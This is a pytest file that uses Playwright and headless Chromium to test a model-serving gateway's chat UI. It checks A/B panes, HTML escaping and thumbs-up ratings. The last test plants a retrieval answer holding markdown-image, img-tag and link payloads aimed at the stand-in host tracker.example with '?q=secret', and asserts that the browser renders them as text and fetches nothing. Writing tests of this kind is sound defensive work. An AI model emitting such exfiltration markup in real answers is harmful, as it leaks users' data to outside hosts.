"""The A/B page in headless Chromium (Debian's /usr/bin/chromium, driven by Playwright): both panes
render, a sent message appears in both, both answer, and a thumbs-up in the single-model tab is saved;
a screenshot is kept for inspection."""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import free_port, serving

from serve.engine_hf import TransformersEngine
from serve.gateway import GatewaySettings, create_app
from serve.ui import mount_ui

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"]


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed (apt-get install chromium)")
def test_both_panes_show_the_message_and_answers(tiny_model_dir: Path, tiny_adapter: Path, tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    engine = TransformersEngine(str(tiny_model_dir), tiny_adapter, max_model_len=256)
    app = create_app(engine, GatewaySettings(system_prompt="S", api_key=None, max_model_len=256, default_max_tokens=12))
    port = free_port()
    app = mount_ui(app, f"http://127.0.0.1:{port}/v1", None, engine.names(), tmp_path / "feedback.jsonl")
    with serving(app, port) as url, sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.goto(f"{url}/ui/", wait_until="load")  # Gradio keeps a connection open: no "networkidle"
        page.locator("#pane-a").wait_for(timeout=60_000)
        assert page.locator("#pane-a").is_visible() and page.locator("#pane-b").is_visible()
        page.locator("#ab-input textarea").fill("返品できますか？ <b>bold?</b>")
        page.locator("#ab-send").click()
        for pane in ("#pane-a", "#pane-b"):
            page.wait_for_function(f"document.querySelector('{pane}').innerText.includes('返品できますか？')",
                                   timeout=60_000)
            page.locator(f"{pane} [data-testid='bot']").first.wait_for(state="attached", timeout=60_000)
        # the tiny random base model answers only newlines (a blank bubble); the random LoRA gives words
        bot = "#pane-b [data-testid='bot']"
        page.wait_for_function(f"document.querySelector(\"{bot}\").innerText.trim().length > 0", timeout=60_000)
        shot = tmp_path / "ab-page.png"
        page.screenshot(path=str(shot), full_page=True)
        texts = [page.locator(pane).inner_text() for pane in ("#pane-a", "#pane-b")]
        bold_tags = page.locator("#pane-a b, #pane-b b").count()
        rated = _chat_and_like(page, tmp_path / "feedback.jsonl")
        browser.close()
    assert rated["kind"] == "rating" and rated["rating"] == "up" and rated["model"] == "tuned"
    assert rated["conversation"] == [{"role": "user", "content": "Hello?"}] and rated["answer"]
    assert shot.stat().st_size > 10_000
    assert all("返品できますか？ <b>bold?</b>" in text for text in texts)  # shown as text, not as markup
    assert not any("[error" in text for text in texts)
    assert bold_tags == 0


def _chat_and_like(page: Any, feedback: Path) -> dict:
    """The single-model tab: ask the tuned model, press thumbs up on its answer, return the saved rating."""
    page.get_by_role("tab", name="Chat").click()
    page.locator("#single-input textarea").fill("Hello?")
    page.locator("#single-input textarea").press("Enter")
    bot = "#single-chat [data-testid='bot']"
    page.wait_for_function(f"document.querySelector(\"{bot}\")?.innerText.trim().length > 0", timeout=60_000)
    _wait_until_steady(page, bot)  # a vote on an answer still streaming is not the answer's vote
    for _ in range(3):  # a click the page was not ready for yet (seen on a loaded 2-core machine) is retried
        page.locator("#single-chat button[aria-label='Like']").last.click()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            lines = feedback.read_text(encoding="utf-8").splitlines() if feedback.exists() else []
            ratings = [json.loads(line) for line in lines if '"rating"' in line]
            if ratings:
                return ratings[-1]
            time.sleep(0.2)
    raise AssertionError("no rating reached feedback.jsonl")


def _wait_until_steady(page: Any, selector: str, quiet_s: float = 1.0, limit_s: float = 60) -> None:
    """Waits until the element's text has not changed for `quiet_s` (the stream has ended)."""
    began, last, since = time.monotonic(), None, time.monotonic()
    while time.monotonic() - began < limit_s:
        text = page.locator(selector).last.inner_text()
        if text != last:
            last, since = text, time.monotonic()
        elif time.monotonic() - since >= quiet_s:
            return
        time.sleep(0.2)


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed (apt-get install chromium)")
def test_an_answer_with_a_markdown_image_makes_the_browser_fetch_nothing(tiny_model_dir: Path, tmp_path: Path) -> None:
    """A FAQ answer (served verbatim by the retrieval system) carries an exfiltration image: the page
    must show it as text and make no request to any host but the server's own."""
    from playwright.sync_api import sync_playwright

    from serve.systems import SystemRouter
    from tunebot.config_eval import RetrievalConfig
    from tunebot.prompts import make_record

    trap = ("See ![logo](http://tracker.example/p.png?q=secret) and <img src=\"http://tracker.example/i.png\"> "
            "[here](http://tracker.example/x) $\\href{http://tracker.example/k}{k}$")
    records = [make_record("faq-1", "faq.csv:2", "en", "S", "How do I track my parcel?", trap)]
    engine = TransformersEngine(str(tiny_model_dir), None, max_model_len=256)
    router = SystemRouter(engine, records, RetrievalConfig(k=1))
    app = create_app(router, GatewaySettings(system_prompt="S", api_key=None, max_model_len=256, default_max_tokens=4))
    port = free_port()
    app = mount_ui(app, f"http://127.0.0.1:{port}/v1", None, router.names(), tmp_path / "feedback.jsonl", "retrieval")
    outside: list[str] = []
    with serving(app, port) as url, sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS, headless=True)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.on("request", lambda request: outside.append(request.url) if "127.0.0.1" not in request.url
                and not request.url.startswith(("data:", "blob:")) else None)
        page.route("**/*", lambda route: route.abort() if "127.0.0.1" not in route.request.url else route.continue_())
        page.goto(f"{url}/ui/", wait_until="load")
        page.locator("#ab-input textarea").fill("How do I track my parcel?")
        page.locator("#ab-send").click()
        page.wait_for_function("document.querySelector('#pane-b').innerText.includes('tracker.example/p.png')",
                               timeout=60_000)
        time.sleep(1.0)  # time for any image the answer might have made the browser load
        shown_text = page.locator("#pane-b").inner_text()
        images = page.locator("#pane-b img").evaluate_all("nodes => nodes.map(n => n.src)")
        links = page.locator("#pane-b a").evaluate_all("nodes => nodes.map(n => n.href)")
        browser.close()
    assert "![logo](http://tracker.example/p.png?q=secret)" in shown_text
    assert '<img src="http://tracker.example/i.png">' in shown_text
    assert not any("tracker.example" in src for src in images + links) and outside == []
